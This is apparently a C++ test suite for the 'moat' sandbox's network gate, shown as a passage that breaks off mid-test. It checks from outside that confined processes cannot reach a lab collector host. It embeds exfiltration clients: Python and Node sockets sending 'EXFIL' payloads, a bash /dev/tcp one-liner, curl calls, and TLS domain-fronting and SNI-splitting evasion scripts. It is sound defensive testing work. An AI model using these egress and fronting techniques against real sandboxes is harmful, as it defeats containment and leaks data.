// Network suite: each TEST_P performs one REAL network attack (or one allowed path) inside
// `moat run --add-host registry.test=REG --allow-host registry.test --add-host collector.test=COL`
// and checks the outcome from OUTSIDE: the collector host (its own network namespace, see netlab.h)
// records everything it receives, and must have received nothing from the sandbox. Every attack has
// an unconfined control (same command, same identity, no moat) that must reach the collector, so each
// test can fail. Parameterised over {root, user}.
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <sstream>
#include <thread>

#include "netlab.h"
#include "sandbox_harness.h"

namespace moat::testing {
namespace {

using P = std::vector<std::string>;

class LabEnvironment : public ::testing::Environment {
 public:
  void SetUp() override { NetLab::set_up(); }
  void TearDown() override { NetLab::tear_down(); }
};
const auto* const kLabEnv = ::testing::AddGlobalTestEnvironment(new LabEnvironment);

// The attacker's network client, written into the project. Prints exactly one "RESULT ..." line.
constexpr char kClientPy[] = R"PY(
import socket, sys, select, struct, threading, time, os
def out(s):
    print('RESULT ' + s, flush=True)
def dns_query(name, qtype=1):
    q = struct.pack('>HHHHHH', 0x4d54, 0x0100, 1, 0, 0, 0)
    for label in name.strip('.').split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00' + struct.pack('>HH', qtype, 1)
mode, args = sys.argv[1], sys.argv[2:]
try:
    if mode == 'urllib':
        import urllib.request
        h = urllib.request.ProxyHandler({})
        body = urllib.request.build_opener(h).open(args[0], timeout=3).read().decode(errors='replace')
        out('OK ' + body.strip())
    elif mode == 'tcp':
        host, port = args[0], int(args[1])
        fam = socket.AF_INET6 if ':' in host else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
        s.connect((host, port)); s.sendall(b'EXFIL ' + (args[2] if len(args) > 2 else 'x').encode() + b'\n')
        out('OK connected %s:%d' % (host, port))
    elif mode == 'tcp-proto':
        proto, host, port = int(args[0]), args[1], int(args[2])
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto); s.settimeout(3)
        s.connect((host, port)); s.sendall(b'EXFIL ' + args[3].encode() + b'\n')
        out('OK connected %s:%d' % (host, port))
    elif mode == 'listen':
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.listen(); out('OK listening on %s:%d' % s.getsockname())
    elif mode == 'udp':
        host, port = args[0], int(args[1])
        fam = socket.AF_INET6 if ':' in host else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        n = s.sendto(b'EXFIL ' + args[2].encode(), (host, port))
        out('OK sent %d' % n)
    elif mode == 'udp-connected':
        host, port = args[0], int(args[1])
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((host, port)); n = s.send(b'EXFIL ' + args[2].encode())
        out('OK sent %d' % n)
    elif mode == 'dns-udp':
        server, name = args[0], args[1]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
        s.sendto(dns_query(name), (server, 53))
        try:
            r, _ = s.recvfrom(4096)
            out('OK answered rcode=%d ancount=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
        except socket.timeout:
            out('OK sent no-answer')
    elif mode == 'dns-udp-connected':
        server, name = args[0], args[1]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
        s.connect((server, 53)); s.send(dns_query(name))
        try:
            r = s.recv(4096)
            out('OK answered rcode=%d ancount=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
        except socket.timeout:
            out('OK sent no-answer')
    elif mode == 'dns-tcp':
        server, name = args[0], args[1]
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
        s.connect((server, 53)); q = dns_query(name)
        s.sendall(struct.pack('>H', len(q)) + q)
        out('OK sent over tcp')
    elif mode == 'resolve':
        try:
            infos = socket.getaddrinfo(args[0], 80, socket.AF_INET, socket.SOCK_STREAM)
            out('OK ' + ' '.join(sorted(set(i[4][0] for i in infos))))
        except socket.gaierror as e:
            out('ERR gaierror %d %s' % (e.errno, e))
    elif mode == 'nonblock':
        host, port = args[0], int(args[1])
        ip = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setblocking(False)
        rc = s.connect_ex((ip, port))
        if rc not in (0, 115):
            out('ERR connect_ex %d %s' % (rc, os.strerror(rc))); sys.exit(1)
        _, w, _ = select.select([], [s], [], 3)
        if not w:
            out('ERR not writable'); sys.exit(1)
        e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if e:
            out('ERR SO_ERROR %d %s' % (e, os.strerror(e))); sys.exit(1)
        fl = 'nonblocking' if s.getblocking() is False and s.gettimeout() == 0.0 else 'blocking'
        s.sendall(b'GET / HTTP/1.0\r\nHost: ' + host.encode() + b'\r\n\r\n')
        data = b''
        deadline = time.time() + 3
        while time.time() < deadline:
            r, _, _ = select.select([s], [], [], 0.5)
            if r:
                chunk = s.recv(65536)
                if not chunk: break
                data += chunk
        out('OK connect_ex=%d %s %s' % (rc, fl, data.decode(errors='replace').split('\r\n\r\n', 1)[-1].strip()))
    elif mode == 'options':
        host, port = args[0], int(args[1])
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 100000)
        want = s.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
        s.settimeout(3); s.connect((host, port))
        got = (s.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY),
               s.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE),
               s.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) == want)
        s.sendall(b'GET / HTTP/1.0\r\nHost: ' + host.encode() + b'\r\n\r\n')
        data = b''
        while True:
            chunk = s.recv(65536)
            if not chunk: break
            data += chunk
        out('OK nodelay=%d keepalive=%d rcvbuf-kept=%d %s' % (got + (
            data.decode(errors='replace').split('\r\n\r\n', 1)[-1].strip(),)))
    elif mode == 'loopback':
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.bind(('127.0.0.1', 0)); srv.listen(1)
        port = srv.getsockname()[1]
        def serve():
            c, _ = srv.accept(); c.sendall(b'loopback-ok ' + c.recv(100)); c.close()
        threading.Thread(target=serve, daemon=True).start()
        s = socket.create_connection(('127.0.0.1', port), timeout=3)
        s.sendall(b'ping'); out('OK ' + s.recv(100).decode())
    else:
        out('ERR unknown mode'); sys.exit(2)
except Exception as e:
    out('ERR %s %s' % (type(e).__name__, e)); sys.exit(1)
)PY";

constexpr char kClientJs[] = R"JS(
const [mode, a, b] = process.argv.slice(2);
const out = (s) => console.log('RESULT ' + s);
if (mode === 'fetch') {
  fetch(a, { signal: AbortSignal.timeout(3000) })
    .then((r) => r.text()).then((t) => out('OK ' + t.trim()))
    .catch((e) => { out('ERR ' + (e.cause ? e.cause.code || e.cause.message : e.message)); process.exitCode = 1; });
} else if (mode === 'net') {
  const net = require('net');
  const s = net.connect({ host: a, port: Number(b), timeout: 3000 }, () => {
    s.end('EXFIL node\n'); out('OK connected');
  });
  s.on('error', (e) => { out('ERR ' + e.code); process.exitCode = 1; });
  s.on('timeout', () => { out('ERR timeout'); s.destroy(); process.exitCode = 1; });
} else {
  out('ERR unknown mode'); process.exitCode = 2;
}
)JS";

std::string result_line(const RunResult& r) {
  std::istringstream in(r.out);
  std::string l;
  while (std::getline(in, l)) {
    if (l.rfind("RESULT ", 0) == 0) return l.substr(7);
  }
  return "";
}

std::string join_lines(const std::vector<std::string>& v) {
  std::string s;
  for (const auto& l : v) s += "  " + l + "\n";
  return s;
}

// Audit lines (JSON, one event a line) with every NEEDLE in them.
std::vector<std::string> audit_matching(const std::string& audit, const std::vector<std::string>& needles) {
  std::vector<std::string> hits;
  std::istringstream in(audit);
  std::string l;
  while (std::getline(in, l)) {
    bool all = true;
    for (const auto& n : needles) all = all && l.find(n) != std::string::npos;
    if (all) hits.push_back(l);
  }
  return hits;
}

// A TCP listener on the HOST's 127.0.0.1 (random port): the sandbox's loopback must not be it.
class HostLoopbackListener {
 public:
  HostLoopbackListener() {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof sa;
    ok_ = fd_ >= 0 && bind(fd_, reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0 &&
          listen(fd_, 16) == 0 && getsockname(fd_, reinterpret_cast<sockaddr*>(&sa), &len) == 0;
    port_ = ntohs(sa.sin_port);
  }
  ~HostLoopbackListener() {
    if (fd_ >= 0) close(fd_);
  }
  bool ok() const { return ok_; }
  int port() const { return port_; }
  int accept_all() {
    int n = 0;
    for (;;) {
      int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (c < 0) break;
      close(c);
      ++n;
    }
    return n;
  }

 private:
  int fd_ = -1, port_ = 0;
  bool ok_ = false;
};

// Watches one port of the host from outside while a sandbox runs: whether anything listens on it
// (a connect to 127.0.0.1 succeeds) or has taken it (a bind to every address fails EADDRINUSE).
class HostPortWatch {
 public:
  HostPortWatch() {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    socklen_t len = sizeof sa;
    if (fd >= 0 && bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0 &&
        getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len) == 0) {
      port_ = ntohs(sa.sin_port);  // free now; the sandbox is the one meant to try it next
    }
    if (fd >= 0) close(fd);
    thread_ = std::thread([this] {
      while (!done_) {
        sockaddr_in sa{};
        sa.sin_family = AF_INET;
        sa.sin_port = htons(static_cast<uint16_t>(port_));
        int probe = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (bind(probe, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0 && errno == EADDRINUSE) {
          ++taken_;
        }
        close(probe);
        sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        probe = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (connect(probe, reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0) ++reached_;
        close(probe);
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
      }
    });
  }
  ~HostPortWatch() { stop(); }
  void stop() {
    done_ = true;
    if (thread_.joinable()) thread_.join();
  }
  int port() const { return port_; }
  int taken() const { return taken_; }
  int reached() const { return reached_; }

 private:
  int port_ = 0;
  std::atomic<bool> done_{false};
  std::atomic<int> taken_{0}, reached_{0};
  std::thread thread_;
};

class Net : public SandboxTest {
 protected:
  void SetUp() override {
    SandboxTest::SetUp();
    if (HasFatalFailure() || IsSkipped()) return;
    lab_ = NetLab::get();
    ASSERT_NE(lab_, nullptr) << "network lab: " << NetLab::error();
    audit_ = sb().in_outside("audit.jsonl");
    sb().write_file(sb().in_project("client.py"), kClientPy);
    sb().write_file(sb().in_project("client.js"), kClientJs);
  }

  const NetLab& lab() const { return *lab_; }
  std::string reg_url(const std::string& host = "registry.test") const {
    return "http://" + host + ":" + std::to_string(NetLab::kRegistryHttpPort) + "/";
  }
  // The collector's name is NOT given to moat: `--add-host collector.test=COL` alone makes it an
  // allowed static host (documented in docs/profiles.md, contrary to the brief; see the DISABLED_
  // test at the end), so by-name attacks ask the stub for a name it does not know.
  std::vector<std::string> gate_args() const {
    P args = {"--add-host", "registry.test=" + lab().registry4(), "--allow-host", "registry.test",
              "--audit", audit_};
    args.insert(args.end(), extra_args_.begin(), extra_args_.end());
    return args;
  }
  std::string audit() const { return read_file(audit_); }
  void check_fronting(const std::string& binding, const RunSpec& spec);

  static P py(P args) {
    args.insert(args.begin(), {"/usr/bin/python3", "./client.py"});
    return args;
  }
  static P node(P args) {
    args.insert(args.begin(), {"/usr/bin/node", "./client.js"});
    return args;
  }
  // A shell command that always reports "RESULT rc=N".
  static P shell(const std::string& script) {
    return {"/bin/sh", "-c", script + "; echo \"RESULT rc=$?\""};
  }

  // The control: CMD unconfined must reach the collector (within 3 s), or the attack proves nothing.
  void control_reaches_collector(const P& cmd, const std::string& what) {
    size_t n0 = lab().collector_count();
    RunSpec spec;
    spec.timeout_s = 10;
    RunResult r = sb().direct(cmd, spec);
    EXPECT_TRUE(lab().wait_collector_beyond(n0, 3))
        << "CONTROL (no moat) did not reach the collector, the attack would prove nothing: " << what
        << "\n" << r.describe();
    // Let the collector finish with the control's connections, so that nothing it logs late is
    // blamed on the attack that follows.
    lab().wait_quiet(3);
  }

  // The attack: CMD inside moat must have run (printed its RESULT / probe line) and the collector
  // must have received nothing, even after a settle time for late packets.
  RunResult attack(const P& cmd, const std::string& what, bool probe = false) {
    size_t n0 = lab().collector_count();
    RunSpec spec;
    spec.timeout_s = 20;
    spec.env = extra_env_;
    RunResult r = sb().moat(cmd, gate_args(), spec);
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    auto got = lab().collector_since(n0);
    EXPECT_TRUE(got.empty()) << "ESCAPE (" << what << "): the collector received from the sandbox:\n"
                             << join_lines(got) << r.describe();
    if (probe) {
      EXPECT_NE(r.probe_line(), "") << "the attack never ran inside the sandbox (vacuous)\n" << r.describe();
    } else {
      EXPECT_NE(result_line(r), "") << "the attack never ran inside the sandbox (vacuous)\n" << r.describe();
    }
    EXPECT_FALSE(r.timed_out) << what << "\n" << r.describe();
    return r;
  }

  // Both, control first: the same command unconfined reaches the collector, confined it does not.
  RunResult blocked(const P& cmd, const std::string& what, bool probe = false) {
    control_reaches_collector(cmd, what);
    return attack(cmd, what, probe);
  }

  // An allowed-path run: the body the registry serves must come back.
  RunResult allowed(const P& cmd, const std::string& what, P more_args = {}) {
    RunSpec spec;
    spec.timeout_s = 20;
    spec.env = extra_env_;
    P args = gate_args();
    args.insert(args.end(), more_args.begin(), more_args.end());
    RunResult r = sb().moat(cmd, args, spec);
    EXPECT_NE(r.out.find(lab().registry_body()), std::string::npos)
        << what << ": the allowed registry was not reachable\n" << r.describe();
    return r;
  }

  NetLab* lab_ = nullptr;
  std::string audit_;
  P extra_args_;  // appended to every moat run's arguments (e.g. --tier landlock)
  std::vector<std::pair<std::string, std::string>> extra_env_;  // e.g. MOAT_TEST_ONLY_LAYER
};

// ---- the allowed path keeps working ----------------------------------------------------------------

TEST_P(Net, AllowedCurlGetsRegistryBody) {
  RunResult r = allowed(shell("curl --noproxy '*' -sS -m 5 " + reg_url()), "curl");
  EXPECT_EQ(result_line(r), "rc=0") << r.describe();
  // The audit names the connection by the host name it was resolved for.
  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"allowed\"",
                                     "\"name\":\"registry.test\"", "\"address\":\"" + lab().registry4() + "\"",
                                     "\"port\":" + std::to_string(NetLab::kRegistryHttpPort)});
  EXPECT_FALSE(ev.empty()) << "no allowed connect event for registry.test in the audit:\n" << audit();
  EXPECT_NE(r.err.find("registry.test"), std::string::npos)
      << "the exit summary does not list the host contacted\n" << r.describe();
}

TEST_P(Net, AllowedPythonUrllibGetsRegistryBody) {
  RunResult r = allowed(py({"urllib", reg_url()}), "python3 urllib");
  EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
}

TEST_P(Net, AllowedNodeFetchGetsRegistryBody) {
  RunResult r = allowed(node({"fetch", reg_url()}), "node fetch");
  EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
}

TEST_P(Net, AllowedNonBlockingConnectWorks) {
  // connect() on an O_NONBLOCK socket: EINPROGRESS or 0, then writable, SO_ERROR 0, still
  // non-blocking (the injected socket keeps the flags), and the HTTP exchange completes.
  RunResult r = allowed(py({"nonblock", "registry.test", std::to_string(NetLab::kRegistryHttpPort)}),
                        "non-blocking connect");
  std::string res = result_line(r);
  EXPECT_EQ(res.rfind("OK ", 0), 0u) << r.describe();
  EXPECT_NE(res.find(" nonblocking "), std::string::npos) << "the socket lost O_NONBLOCK\n" << r.describe();
}

TEST_P(Net, AllowedConnectKeepsSocketOptions) {
  // Options set before connect() survive on the socket the sandbox is handed (here the relay's
  // end of a loopback pair: registry.test is allowed by name), with the buffer size as set.
  RunResult r = allowed(py({"options", "registry.test", std::to_string(NetLab::kRegistryHttpPort)}),
                        "socket options");
  EXPECT_NE(result_line(r).find("OK nodelay=1 keepalive=1 rcvbuf-kept=1 "), std::string::npos)
      << r.describe();
}

TEST_P(Net, AllowedGitCloneOverHttp) {
  RunResult r = sb().moat({"/usr/bin/git", "clone", "-q",
                           "http://registry.test:" + std::to_string(NetLab::kRegistryHttpPort) +
                               "/repo.git", "cloned"},
                          gate_args());
  EXPECT_EQ(r.status, 0) << r.describe();
  // From outside: the clone is in the project, with the registry's content.
  EXPECT_NE(read_file(sb().in_project("cloned/README")).find(lab().registry_body()),
            std::string::npos)
      << r.describe();
}

TEST_P(Net, AllowedTlsToRegistry) {
  RunResult r = sb().moat(
      shell("curl --noproxy '*' -sS -k -m 5 https://registry.test:" +
            std::to_string(NetLab::kRegistryTlsPort) + "/ | head -c 2000"),
      gate_args());
  EXPECT_NE(r.out.find("s_server"), std::string::npos) << "TLS to the allowed registry failed\n"
                                                        << r.describe();
}

// Name binding on HTTPS: as root the kernel checks the first bytes on the sandbox's own socket
// (binding "kernel"), as the user the relay does (binding "relay"). front.test is allowed and
// resolves to the collector; every way of naming another host, or hiding the name, must leave
// the collector without a byte of the connection, and the one honest hello must reach it.
constexpr char kFrontingPy[] = R"PY(
import os, socket, sys, tempfile, time
def hello(sni=None, ech=False):
    ext = b'\x0a\x0a\x00\x00'
    if sni:
        n = sni.encode()
        ext += b'\x00\x00' + (len(n) + 5).to_bytes(2, 'big') + (len(n) + 3).to_bytes(2, 'big')
        ext += b'\x00' + len(n).to_bytes(2, 'big') + n
    if ech:
        ext += b'\xfe\x0d\x00\x04abcd'
    body = b'\x03\x03' + b'\x11' * 32 + b'\x00\x00\x02\x13\x01\x01\x00'
    body += len(ext).to_bytes(2, 'big') + ext
    hs = b'\x01' + len(body).to_bytes(3, 'big') + body
    return b'\x16\x03\x01' + len(hs).to_bytes(2, 'big') + hs
def split(record):
    hs = record[5:]
    return (b'\x16\x03\x01\x00\x28' + hs[:40] + b'\x16\x03\x01' +
            (len(hs) - 40).to_bytes(2, 'big') + hs[40:])
def attempt(name, send):
    s = socket.create_connection(('front.test', 443), timeout=3)
    try:
        send(s)
        time.sleep(0.2)
        s.sendall(b'SECRET-AFTER-' + name.encode())
        print(name, 'sent')
    except OSError as e:
        print(name, 'errno', e.errno)
    time.sleep(0.2)
    s.close()
def bytewise(data):
    def send(s):
        for i in range(len(data)):
            s.send(data[i:i + 1])
    return send
def by_sendfile(data):
    def send(s):
        with tempfile.TemporaryFile() as f:
            f.write(data); f.flush()
            os.sendfile(s.fileno(), f.fileno(), 0, len(data))
    return send
evil = hello('collector.test')
for name, send in [
        ('fronted', lambda s: s.sendall(evil)),
        ('no-sni', lambda s: s.sendall(hello())),
        ('ech', lambda s: s.sendall(hello('front.test', ech=True))),
        ('sslv2', lambda s: s.sendall(b'\x80\x2e\x01\x03\x01' + b'\x00' * 45)),
        ('http-host', lambda s: s.sendall(b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')),
        ('bytewise', bytewise(evil)),
        ('sendfile', by_sendfile(evil)),
        ('split', lambda s: s.sendall(split(evil)))]:
    attempt(name, send)
u = socket.socket()
try:
    u.setsockopt(socket.SOL_TCP, 31, b'tls')
    print('ulp allowed')
except OSError as e:
    print('ulp errno', e.errno)
s = socket.create_connection(('front.test', 443), timeout=3)
s.sendall(hello('front.test') + b'HONEST-PAYLOAD')
time.sleep(0.5)
print('honest sent')
s.close()
)PY";

// A sandboxd on a private socket, for the runs that go through it (the user's kernel name check).
class PrivateSandboxd {
 public:
  PrivateSandboxd() {
    char dir[] = "/tmp/moat-netsd-XXXXXX";
    if (::mkdtemp(dir) == nullptr) return;
    dir_ = dir;
    ::chmod(dir, 0755);
    socket_ = dir_ + "/sandboxd.sock";
    pid_ = ::fork();
    if (pid_ == 0) {
      ::execl(MOAT_SANDBOXD_BIN, MOAT_SANDBOXD_BIN, "--socket", socket_.c_str(),
              static_cast<char*>(nullptr));
      ::_exit(127);
    }
    for (int i = 0; i < 200 && ::access(socket_.c_str(), F_OK) != 0; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(25));
    }
  }
  ~PrivateSandboxd() {
    if (pid_ > 0) {
      ::kill(pid_, SIGTERM);
      ::waitpid(pid_, nullptr, 0);
    }
    ::unlink(socket_.c_str());
    ::rmdir(dir_.c_str());
  }
  const std::string& socket() const { return socket_; }

 private:
  std::string dir_, socket_;
  pid_t pid_ = -1;
};

// Runs kFrontingPy and checks, from the collector, that no refused connection's byte arrived and
// the honest one did; and from the audit, that each refusal was made by BINDING.
void Net::check_fronting(const std::string& binding, const RunSpec& spec) {
  sb().write_file(sb().in_project("fronting.py"), kFrontingPy);
  extra_args_ = {"--add-host", "front.test=" + lab().collector4(), "--allow-host", "front.test"};
  std::remove(audit_.c_str());
  const size_t n0 = lab().collector_count();
  RunResult r = sb().moat({"/usr/bin/python3", "./fronting.py"}, gate_args(), spec);
  EXPECT_EQ(r.status, 0) << r.describe();
  ASSERT_NE(r.out.find("honest sent"), std::string::npos) << r.describe();
  lab().wait_quiet(4);
  const auto hex = [](const std::string& s) {
    std::string out;
    for (unsigned char c : s) out += "0123456789abcdef"[c >> 4], out += "0123456789abcdef"[c & 15];
    return out;
  };
  int honest = 0;
  for (const std::string& line : lab().collector_since(n0)) {
    const std::string data = "tcp 443 data ";
    if (line.rfind(data, 0) != 0 || line.size() == data.size()) continue;
    EXPECT_NE(line.find(hex("front.test")), std::string::npos)
        << "ESCAPE: a refused connection's bytes reached the server: " << line << r.describe();
    EXPECT_EQ(line.find(hex("collector.test")), std::string::npos) << line;
    EXPECT_EQ(line.find(hex("SECRET-AFTER")), std::string::npos) << line;
    honest += line.find(hex("front.test")) != std::string::npos;
  }
  EXPECT_EQ(honest, 1) << "the honest hello must reach the server (else the test proves nothing)\n"
                       << join_lines(lab().collector_since(n0)) << r.describe();
  EXPECT_NE(r.out.find("ulp errno 92"), std::string::npos)
      << "kernel TLS (TCP_ULP) must be refused with ENOPROTOOPT\n"
      << r.describe();
  EXPECT_EQ(audit_matching(audit(), {"\"verdict\":\"refused\"", "front.test",
                                     "\"binding\":\"" + binding + "\""})
                .size(),
            8u)
      << "binding " << binding << "\n"
      << audit();
  EXPECT_FALSE(
      audit_matching(audit(), {"\"verdict\":\"refused\"", "\"seen\":\"collector.test\""}).empty())
      << audit();
}

TEST_P(Net, NameBindingRefusesFrontedHttps) {
  // Root: the kernel check moat loads; the user: the relay.
  RunSpec spec;
  spec.timeout_s = 30;
  check_fronting(GetParam() == Identity::kRoot ? "kernel" : "relay", spec);
}

TEST_P(Net, NameBindingThroughSandboxdRefusesFrontedHttps) {
  // Both through a sandboxd: the user's gate has the daemon's kernel check.
  PrivateSandboxd daemon;
  RunSpec spec;
  spec.timeout_s = 30;
  spec.env = {{"MOAT_SANDBOXD_SOCKET", daemon.socket()}};
  check_fronting("kernel", spec);
}

TEST_P(Net, LoopbackServerInsideSandboxWorks) {
  RunResult r = sb().moat(py({"loopback"}), gate_args());
  EXPECT_EQ(result_line(r), "OK loopback-ok ping") << r.describe();
}

// ---- attacks: nothing reaches the collector ----------------------------------------------------------

TEST_P(Net, CurlToCollectorByNameAndAddress) {
  for (int port : NetLab::collector_tcp_ports()) {
    std::string p = std::to_string(port);
    // Control by address (the host cannot resolve collector.test), attack by name and by address.
    control_reaches_collector(shell("curl --noproxy '*' -sS -m 3 http://" + lab().collector4() + ":" + p + "/"),
                              "curl to collector:" + p);
    RunResult byname = attack(shell("curl --noproxy '*' -sS -m 3 http://collector.test:" + p + "/"),
                              "curl collector.test:" + p);
    EXPECT_NE(result_line(byname), "rc=0") << byname.describe();
    RunResult byaddr = attack(shell("curl --noproxy '*' -sS -m 3 http://" + lab().collector4() + ":" + p + "/"),
                              "curl " + lab().collector4() + ":" + p);
    EXPECT_NE(result_line(byaddr), "rc=0") << byaddr.describe();
    EXPECT_LT(byaddr.seconds, 2.0) << "a refused connect must fail at once, not time out\n" << byaddr.describe();
  }
  // The refusals are in the audit (the gate decided; not a routing accident).
  attack(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "probe for the audit", true);
  auto ev = audit_matching(audit(), {"\"kind\":\"connect\"", "\"verdict\":\"refused\"",
                                     "\"address\":\"" + lab().collector4() + "\"", "\"port\":4444"});
  EXPECT_FALSE(ev.empty()) << "no refused connect event for the collector in the audit:\n" << audit();
}

TEST_P(Net, PythonUrllibToCollector) {
  RunResult r = blocked(py({"urllib", "http://" + lab().collector4() + ":8080/"}), "python urllib by address");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
  r = attack(py({"urllib", "http://collector.test:8080/"}), "python urllib by name");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
}

TEST_P(Net, PythonRawSocketToCollector) {
  RunResult r = blocked(py({"tcp", lab().collector4(), "4444", sb().canary("pyraw")}), "python raw socket");
  EXPECT_NE(result_line(r).find("Permission"), std::string::npos)
      << "expected EACCES from the gate\n" << r.describe();
}

TEST_P(Net, ProbeConnectSyscallToCollector) {
  // The plain connect(2) of a static C binary the attacker brought.
  RunResult r = blocked(Sandbox::probe({"connect-tcp", lab().collector4(), "4444"}), "probe connect-tcp", true);
  EXPECT_EQ(r.probe_errno(), "EACCES") << r.describe();
}

TEST_P(Net, NodeFetchAndNetConnectToCollector) {
  RunResult r = blocked(node({"fetch", "http://" + lab().collector4() + ":80/"}), "node fetch");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
  r = blocked(node({"net", lab().collector4(), "4444"}), "node net.connect");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
  r = attack(node({"net", "collector.test", "443"}), "node net.connect by name");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
}

TEST_P(Net, BashDevTcpOddPort) {
  // No nc on this system: bash's /dev/tcp is the shell-only client for an odd port.
  RunResult r = blocked({"/bin/bash", "-c",
                         "exec 3<>/dev/tcp/" + lab().collector4() + "/4444 && echo EXFIL >&3; echo \"RESULT rc=$?\""},
                        "bash /dev/tcp");
  EXPECT_NE(result_line(r), "rc=0") << r.describe();
}

TEST_P(Net, Ipv6ToCollector) {
  std::string a6 = lab().collector6();
  RunResult r = blocked(Sandbox::probe({"connect-tcp", a6, "4444"}), "probe IPv6 connect", true);
  EXPECT_FALSE(r.probe_ok()) << r.describe();
  r = blocked(py({"tcp", a6, "80"}), "python IPv6 connect");
  EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
  r = blocked(shell("curl --noproxy '*' -sS -m 3 -g http://[" + a6 + "]:8080/"), "curl IPv6");
  EXPECT_NE(result_line(r), "rc=0") << r.describe();
  blocked(py({"udp", a6, "4444", "v6"}), "UDP over IPv6");
}

// The allowed path over IPv6: an explicit address rule lets one connection through the gate, and
// the collector (here the allowed peer) receives it; everything else above stays refused.
TEST_P(Net, AllowedIpv6AddressRule) {
  size_t n0 = lab().collector_count();
  std::string canary = sb().canary("v6ok");
  RunResult r = sb().moat(py({"tcp", lab().collector6(), "4444", canary}),
                          {"--allow-host", "[" + lab().collector6() + "]:4444"});
  EXPECT_EQ(result_line(r).rfind("OK", 0), 0u) << r.describe();
  EXPECT_TRUE(lab().wait_collector_beyond(n0, 3)) << r.describe();
  std::string hex;  // the collector logs payloads in hex
  for (unsigned char c : canary) {
    static const char* const kDigits = "0123456789abcdef";
    hex += kDigits[c >> 4];
    hex += kDigits[c & 15];
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_NE(join_lines(lab().collector_since(n0)).find(hex), std::string::npos)
      << "the allowed IPv6 connection's data did not arrive\n" << r.describe();
}

TEST_P(Net, UdpToCollector) {
  // sendto() may "succeed" locally or fail; what matters is that no datagram arrives.
  blocked(py({"udp", lab().collector4(), "4444", sb().canary("udp")}), "udp sendto :4444");
  blocked(py({"udp-connected", lab().collector4(), "4444", sb().canary("udpc")}), "connected udp :4444");
  blocked(py({"udp", lab().collector4(), "53", sb().canary("udp53")}), "udp sendto :53");
}

// With root, the cgroup BPF layer is attached too: a datagram to the outside is refused by the
// kernel (EPERM) before routing (which would say ENETUNREACH), and moat reports the refusal.
TEST_P(Net, KernelLayerRefusesAsRoot) {
  if (GetParam() != Identity::kRoot) return;  // BPF needs root; the user run has the gate alone
  size_t n0 = lab().collector_count();
  RunResult r = sb().moat(py({"udp", lab().collector4(), "4444", sb().canary("kernel")}),
                          gate_args());
  EXPECT_NE(result_line(r).find("Operation not permitted"), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find("in-kernel network layer refused"), std::string::npos) << r.describe();
  // And from outside: nothing arrived.
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_TRUE(lab().collector_since(n0).empty()) << join_lines(lab().collector_since(n0));
}

TEST_P(Net, DnsQueryForCollectorNameIsNxdomainAndNotForwarded) {
  size_t n0 = lab().collector_count();
  // The stub lowercases names (the tag may not be lowercase).
